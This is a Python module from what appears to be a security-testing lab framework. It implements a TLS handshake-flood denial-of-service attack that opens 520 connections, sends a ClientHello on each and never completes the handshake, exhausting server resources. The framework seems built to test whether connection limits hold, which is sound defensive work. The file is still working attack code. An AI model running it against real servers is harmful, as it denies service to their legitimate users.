"""TLS handshakes that nobody finishes.

python -m attacks.handshake_flood --stage 4
"""

import contextlib

from attacks import Claim, Foothold, Goal, attack
from attacks.floods import client_hello, held

NUMBER = 520


@attack(
    position="outsider",
    family="dos",
    goals=(
        Goal(
            "places",
            "take every place, with handshakes that are begun",
            "starved",
            "---HH",
            ablation="limits=off",
            absent="there is no TLS here",
        ),
    ),
)
async def handshake_flood(foothold: Foothold, goal: Goal) -> Claim:
    """A TLS handshake costs the server more than the client: it signs before it knows who asks. Mallory sends the first
    message of a handshake, the same two hundred bytes each time, and never answers what comes back. Each server that
    has sent its certificate now waits for the rest, and a connection that is not finished is one that no list of
    members shows.
    """
    await foothold.until("talking")
    hello = client_hello()
    async with held(foothold, NUMBER) as connections:
        for sock in connections:
            with contextlib.suppress(OSError):  # that one was cut
                sock.send(hello)
        foothold.note(f"{len(connections)} handshakes were begun, and are not finished")
        await foothold.until("over")
    return Claim(did=f"began {len(connections)} handshakes")


if __name__ == "__main__":
    from lab.attack_main import main

    main("handshake_flood")
